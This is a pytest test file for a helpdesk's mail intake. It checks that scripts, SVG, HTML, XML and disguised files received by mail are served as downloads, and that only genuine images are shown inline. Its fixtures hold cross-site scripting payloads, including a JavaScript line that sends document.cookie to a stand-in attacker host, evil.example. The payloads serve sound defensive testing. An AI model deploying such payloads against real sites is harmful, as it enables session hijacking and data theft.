"""Active content in received mail is never served inline: only inert images whose bytes are
that image may be inline; SVG, HTML, XHTML, XML, scripts and files that only claim to be
images are served as downloads, with the type their sender declared kept beside."""

from __future__ import annotations

import base64

import pytest
from tests.services.conftest import MakeHelpdesk

from helpdesk_core import Helpdesk
from helpdesk_core.domain import AttachmentMeta
from helpdesk_core.mail.policy import MailPolicy

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 30
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 30
GIF = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 30
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 30
BMP = b"BM" + b"\x00" * 40
AVIF = b"\x00\x00\x00\x1cftypavif" + b"\x00" * 30
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">' \
      b"<script>fetch('/api/tickets')</script></svg>"
HTML = b"<html><body><script>alert(1)</script><img src=x onerror=alert(2)></body></html>"
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script>'
JS = b"document.location='https://evil.example/?'+document.cookie"
DOWNLOAD = "application/octet-stream"


@pytest.fixture
def desk(make_helpdesk: MakeHelpdesk) -> Helpdesk:
    return make_helpdesk(mail_policy=MailPolicy(own_addresses=frozenset({"support@x.example"})))


def mail_with(ctype: str, data: bytes, *, disposition: str = "inline",
              name: str | None = "file", cid: str | None = "part1@x") -> bytes:
    """An HTML mail that shows one part by cid:, the part as the sender's client wrote it."""
    headers = f"Content-Type: {ctype}\r\n"
    if disposition or name:
        headers += f"Content-Disposition: {disposition}"
        headers += f'; filename="{name}"\r\n' if name else "\r\n"
    if cid:
        headers += f"Content-ID: <{cid}>\r\n"
    return ("From: jana@example.cz\r\nTo: support@x.example\r\nSubject: Obrázek\r\n"
            f"Message-ID: <{abs(hash((ctype, data, disposition, name, cid)))}@example.cz>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=R\r\n\r\n"
            "--R\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            f'<p>Viz obrázek:</p><img src="cid:{cid or "none"}">\r\n'
            f"--R\r\n{headers}Content-Transfer-Encoding: base64\r\n\r\n"
            f"{base64.encodebytes(data).decode()}\r\n--R--\r\n").encode()


def received(desk: Helpdesk, raw: bytes) -> AttachmentMeta:
    outcome = desk.mail.receive(raw)
    assert outcome.outcome == "new_ticket", outcome
    [article, *_] = desk.tickets.articles(outcome.ticket_number or "")
    [attachment] = article.attachments
    return attachment


# (declared Content-Type, disposition, file name, bytes) →
# (content_type served, inline, declared_type kept)
CASES = [
    # active content, however it is labelled: a download
    pytest.param("image/svg+xml", "inline", "logo.svg", SVG, DOWNLOAD, False, "image/svg+xml",
                 id="svg-with-script-inline"),
    pytest.param("image/svg+xml", "", None, SVG, DOWNLOAD, False, "image/svg+xml",
                 id="svg-referenced-by-cid-only"),
    pytest.param("IMAGE/SVG+XML; charset=utf-8", "INLINE", "logo.svg", SVG, DOWNLOAD, False,
                 "image/svg+xml", id="svg-upper-case-with-parameters"),
    pytest.param("text/html", "inline", "page.html", HTML, DOWNLOAD, False, "text/html",
                 id="html-inline"),
    pytest.param("text/html; charset=utf-8", "inline", "promo.htm", HTML, DOWNLOAD, False,
                 "text/html", id="html-inline-with-charset"),
    pytest.param("application/xhtml+xml", "inline", "page.xhtml", XHTML, DOWNLOAD, False,
                 "application/xhtml+xml", id="xhtml"),
    pytest.param("text/xml", "inline", "data.xml", XHTML, DOWNLOAD, False, "text/xml",
                 id="text-xml"),
    pytest.param("application/xml", "inline", "data.xml", XHTML, DOWNLOAD, False,
                 "application/xml", id="application-xml"),
    pytest.param("application/javascript", "inline", "run.js", JS, DOWNLOAD, False,
                 "application/javascript", id="javascript"),
    pytest.param("text/javascript", "inline", "run.js", JS, DOWNLOAD, False, "text/javascript",
                 id="text-javascript"),
    pytest.param("application/pdf", "inline", "faktura.pdf", b"%PDF-1.7\n", DOWNLOAD, False,
                 "application/pdf", id="pdf-inline"),
    pytest.param("text/plain", "inline", "notes.txt", b"hello", DOWNLOAD, False, "text/plain",
                 id="text-file-inline"),
    # files that only claim to be images
    pytest.param("application/octet-stream", "inline", "photo.png", PNG, DOWNLOAD, False, None,
                 id="octet-stream-named-png"),
    pytest.param("image/png", "inline", "photo.png", SVG, DOWNLOAD, False, "image/png",
                 id="svg-bytes-declared-png"),
    pytest.param("image/jpeg", "inline", "photo.jpg", HTML, DOWNLOAD, False, "image/jpeg",
                 id="html-bytes-declared-jpeg"),
    pytest.param("image/png", "inline", "empty.png", b"", DOWNLOAD, False, "image/png",
                 id="empty-png"),
    pytest.param("image/tiff", "inline", "scan.tif", b"II*\x00" + b"\x00" * 20, DOWNLOAD, False,
                 "image/tiff", id="tiff-is-no-inline-type"),
    pytest.param("image/x-icon", "inline", "favicon.ico", b"\x00\x00\x01\x00" * 5, DOWNLOAD,
                 False, "image/x-icon", id="icon"),
    # inert images: inline, as what their bytes are
    pytest.param("image/png", "inline", "photo.png", PNG, "image/png", True, None, id="png"),
    pytest.param("IMAGE/PNG", "inline", "photo.png", PNG, "image/png", True, None,
                 id="png-upper-case"),
    pytest.param('image/png; name="photo.png"', "inline", "photo.png", PNG, "image/png", True,
                 None, id="png-with-parameters"),
    pytest.param("image/jpeg", "inline", "photo.jpg", JPEG, "image/jpeg", True, None,
                 id="jpeg"),
    pytest.param("image/jpg", "inline", "photo.jpg", JPEG, "image/jpeg", True, "image/jpg",
                 id="jpg-alias"),
    pytest.param("image/pjpeg", "inline", "photo.jpg", JPEG, "image/jpeg", True, "image/pjpeg",
                 id="pjpeg-alias"),
    pytest.param("image/gif", "inline", "anim.gif", GIF, "image/gif", True, None, id="gif"),
    pytest.param("image/webp", "inline", "photo.webp", WEBP, "image/webp", True, None,
                 id="webp"),
    pytest.param("image/bmp", "inline", "scan.bmp", BMP, "image/bmp", True, None, id="bmp"),
    pytest.param("image/avif", "inline", "photo.avif", AVIF, "image/avif", True, None,
                 id="avif"),
    pytest.param("image/png", "inline", "photo.png", JPEG, "image/jpeg", True, "image/png",
                 id="jpeg-bytes-declared-png"),
    pytest.param("image/png", "", None, PNG, "image/png", True, None, id="png-by-cid-only"),
    pytest.param("image/png", "attachment", "photo.png", PNG, "image/png", True, None,
                 id="png-attached-but-shown-by-cid"),
]


@pytest.mark.parametrize(("ctype", "disposition", "name", "data", "served", "inline",
                          "declared"), CASES)
def test_only_inert_images_are_inline(
        desk: Helpdesk, ctype: str, disposition: str, name: str | None, data: bytes,
        served: str, inline: bool, declared: str | None) -> None:
    attachment = received(desk, mail_with(ctype, data, disposition=disposition, name=name))
    assert (attachment.content_type, attachment.inline, attachment.declared_type) == \
        (served, inline, declared)
    assert attachment.disposition == ("inline" if inline else "attachment")
    assert desk.blob_store.get(attachment.blob_key) == data  # the bytes as sent


def test_an_image_sent_as_an_attachment_is_served_as_one(desk: Helpdesk) -> None:
    attachment = received(desk, mail_with("image/png", PNG, disposition="attachment",
                                          name="photo.png", cid=None))
    assert (attachment.content_type, attachment.inline) == ("image/png", False)
    assert attachment.disposition == "attachment"


def test_a_stored_attachment_reads_back_with_its_declared_type(desk: Helpdesk) -> None:
    outcome = desk.mail.receive(mail_with("image/svg+xml", SVG, name="logo.svg"))
    [article, *_] = desk.tickets.articles(outcome.ticket_number or "")
    [attachment] = article.attachments
    assert AttachmentMeta.from_dict(attachment.to_dict()) == attachment
    assert attachment.to_dict()["declared_type"] == "image/svg+xml"
